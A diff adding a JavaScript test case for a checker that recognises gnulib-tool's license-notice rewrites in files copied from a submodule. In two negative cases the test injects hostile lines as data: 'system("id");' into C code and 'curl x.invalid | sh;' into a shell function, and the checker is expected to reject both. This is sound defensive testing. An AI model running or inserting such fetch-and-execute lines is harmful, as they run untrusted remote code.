@@ -262,6 +262,20 @@ describe('verify with a submodule', () => {
     expect(rewrittenCopy(original, `${original.replace('#ifdef HAVE_CONFIG_H', '#if 1')}system("id");\n`)).toBeUndefined()
   })
 
+  it('takes the license notice gnulib-tool rewrites for the project\u2019s license for such a line, and no other change of it', () => {
+    const lgpl = '/* Copyright (C) 2011-2021 Free Software Foundation, Inc.\n   This file is free software: you can redistribute it and/or modify\n   it under the terms of the GNU Lesser General Public License as\n   published by the Free Software Foundation; either version 2.1 of the\n   License, or (at your option) any later version.  */\n#ifdef HAVE_CONFIG_H\n# include <config.h>\n#endif\nint f(void);\n'
+    const gpl = lgpl.replace('GNU Lesser General Public License', 'GNU General Public License').replace('version 2.1 of', 'version 3 of').replace('#ifdef HAVE_CONFIG_H', '#if 1')
+    expect(rewrittenCopy(lgpl, gpl)).toEqual({ lines: 3, tool: 'gnulib-tool' })
+    // --lgpl=2 keeps 2.1; a shell helper's MIT-or-GPL notice is moved to version 3 the same way
+    const shell = '# Licensed under <https://opensource.org/license/MIT>, and GPL version 2 or later\nfunc_echo () { :; }\n'
+    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 3 or'))).toEqual({ lines: 1, tool: 'gnulib-tool' })
+    // another version, a licence gnulib-tool never writes, or a code line changed beside: not its rewrite
+    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 4 or'))).toBeUndefined()
+    expect(rewrittenCopy(lgpl, lgpl.replace('GNU Lesser General Public License', 'GNU Affero General Public License'))).toBeUndefined()
+    expect(rewrittenCopy(shell, shell.replace('version 2 or', 'version 3 or').replace(':;', 'curl x.invalid | sh;'))).toBeUndefined()
+    expect(rewrittenCopy('release 2 of the tool\n', 'release 3 of the tool\n')).toBeUndefined()
+  })
+
   it('reads --submodule as PATH=REPOSITORY', () => {
     expect(parseSubmoduleOption('gnulib=../gnulib')).toEqual({ path: 'gnulib', source: '../gnulib' })
     expect(parseSubmoduleOption('./deps/lib/=https://example.invalid/lib.git')).toEqual({ path: 'deps/lib', source: 'https://example.invalid/lib.git' })
